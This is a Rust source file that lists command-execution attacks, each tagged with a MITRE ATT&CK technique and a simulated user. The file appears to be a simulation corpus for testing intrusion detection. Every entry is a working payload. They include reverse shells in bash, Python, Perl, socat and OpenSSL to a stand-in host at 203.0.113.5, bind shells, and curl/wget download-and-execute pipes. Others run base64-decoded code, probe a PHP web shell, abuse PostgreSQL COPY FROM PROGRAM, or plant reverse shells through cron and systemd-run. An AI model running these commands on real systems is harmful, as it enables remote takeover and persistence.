//! Ways to have commands run: reverse and bind shells, downloads, decoded scripts, servers misused.

use super::{Attack, User};

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "reverse-shell-bash",
        technique: "T1059.004",
        user: User::Alice,
        script: r#"
bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'
"#,
    },
    Attack {
        name: "reverse-shell-sh-socket",
        technique: "T1059.004",
        user: User::WebServer,
        script: r#"
python3 -c '
import socket, os, subprocess
s = socket.create_connection(("203.0.113.5", 4444))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])'
"#,
    },
    Attack {
        name: "reverse-shell-python-pty",
        technique: "T1059.006",
        user: User::Alice,
        script: r#"
python3 -c '
import socket, os, pty
s = socket.create_connection(("203.0.113.5", 4444))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")'
"#,
    },
    Attack {
        name: "reverse-shell-pipes",
        technique: "T1059.004",
        user: User::Alice,
        script: r#"
mkfifo /home/alice/f && cat /home/alice/f | /bin/sh -i 2>&1 | nc -w 5 203.0.113.5 4444 > /home/alice/f
rm -f /home/alice/f
"#,
    },
    Attack {
        name: "reverse-shell-perl",
        technique: "T1059",
        user: User::WebServer,
        script: r#"
perl -MSocket -e '
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in(4444, inet_aton("203.0.113.5")));
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");'
"#,
    },
    Attack {
        name: "reverse-shell-socat-pty",
        technique: "T1059.004",
        user: User::Root,
        script: r#"
socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty,stderr,setsid
"#,
    },
    Attack {
        name: "reverse-shell-exec-descriptor",
        technique: "T1059.004",
        user: User::Alice,
        script: r#"
bash -c 'exec 5<>/dev/tcp/203.0.113.5/4444; while read -r line <&5; do $line 2>&5 >&5; done'
"#,
    },
    Attack {
        name: "bind-shell-socat",
        technique: "T1059.004",
        user: User::Root,
        script: r#"
socat TCP-LISTEN:5555,bind=127.0.0.1 EXEC:/bin/sh &
sleep 2
printf 'id\nexit\n' | nc -w 3 127.0.0.1 5555
"#,
    },
    Attack {
        name: "bind-shell-python",
        technique: "T1059.006",
        user: User::WebServer,
        script: r#"
python3 -c '
import socket, os, subprocess
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", 5556)); l.listen(1)
if os.fork() == 0:
    c = socket.create_connection(("127.0.0.1", 5556)); c.sendall(b"id\nexit\n"); c.recv(500); os._exit(0)
s, _ = l.accept()
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])'
"#,
    },
    Attack {
        name: "download-pipe-shell",
        technique: "T1105",
        user: User::Alice,
        script: r#"
curl -s http://203.0.113.5:8000/install.sh | sh
"#,
    },
    Attack {
        name: "download-pipe-python",
        technique: "T1105",
        user: User::Alice,
        script: r#"
wget -q -O - http://203.0.113.5:8000/install.py | python3
"#,
    },
    Attack {
        name: "download-run-from-tmp",
        technique: "T1105",
        user: User::WebServer,
        script: r#"
curl -s -o /tmp/kworkerd http://203.0.113.5:8000/true; chmod +x /tmp/kworkerd; /tmp/kworkerd
"#,
    },
    Attack {
        name: "download-run-from-shm",
        technique: "T1105",
        user: User::Root,
        script: r#"
wget -q -O /dev/shm/.x http://203.0.113.5:8000/true; chmod 755 /dev/shm/.x; /dev/shm/.x
"#,
    },
    Attack {
        name: "decode-pipe-shell",
        technique: "T1140",
        user: User::Alice,
        script: r#"
echo aWQ7IHVuYW1lIC1hOyBjYXQgL2V0Yy9wYXNzd2QgPiAvZGV2L251bGw= | base64 -d | bash
"#,
    },
    Attack {
        name: "decode-python-exec",
        technique: "T1059.006",
        user: User::Alice,
        script: r#"
python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))'
"#,
    },
    Attack {
        name: "openssl-reverse-shell",
        technique: "T1573",
        user: User::Alice,
        script: r#"
mkfifo /home/alice/s && /bin/sh -i < /home/alice/s 2>&1 | timeout 5 openssl s_client -quiet -connect 203.0.113.5:4444 > /home/alice/s
rm -f /home/alice/s
"#,
    },
    Attack {
        name: "web-shell-php",
        technique: "T1505.003",
        user: User::Root,
        script: r#"
curl -s 'http://127.0.0.1:8081/page.php?cmd=id'
curl -s 'http://127.0.0.1:8081/page.php?cmd=cat%20/etc/passwd'
"#,
    },
    Attack {
        name: "database-shell",
        technique: "T1059.004",
        user: User::Root,
        script: r#"
cd / && setpriv --reuid=postgres --regid=postgres --init-groups psql -q -c "CREATE TABLE loot (line text); COPY loot FROM PROGRAM 'id; cat /etc/passwd'; DROP TABLE loot;"
"#,
    },
    Attack {
        name: "cron-reverse-shell",
        technique: "T1053.003",
        user: User::Root,
        script: r#"
echo '* * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"' > /etc/cron.d/sync
sleep 75
rm -f /etc/cron.d/sync
"#,
    },
    Attack {
        name: "systemd-run-shell",
        technique: "T1569.002",
        user: User::Root,
        script: r#"
systemd-run --quiet --wait /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'
"#,
    },
];
